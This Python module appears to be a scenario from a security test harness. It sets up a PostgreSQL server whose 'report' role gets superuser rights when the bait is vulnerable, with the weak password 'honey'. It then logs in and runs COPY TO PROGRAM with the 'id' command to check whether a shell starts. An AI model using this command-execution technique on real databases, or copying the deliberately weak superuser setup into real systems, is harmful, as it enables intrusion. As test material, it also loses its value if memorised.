"""PostgreSQL with a password by SCRAM-SHA-256: the proof is keyed with what both sides said."""
import postgres
from client import Unexpected, word

KIND = "crypto"
RULE = "shell_started"
NEEDS = [postgres.SERVER]
ALWAYS = False


def services(bait):
    right = "SUPERUSER" if bait.vulnerable else "NOSUPERUSER"
    return [postgres.cluster(bait, "scram-sha-256", f"CREATE ROLE report LOGIN {right} PASSWORD 'honey';\n")]


def visit(address, random):
    client = postgres.Postgres(address)
    client.log_in("report", "honey")
    client.send(b"Q", f"COPY (SELECT 1) TO PROGRAM 'id # {word(random)}'".encode() + b"\0")
    try:
        client.rows()
    except Unexpected:
        pass  # refused by its rights, or the shell was
    client.close()
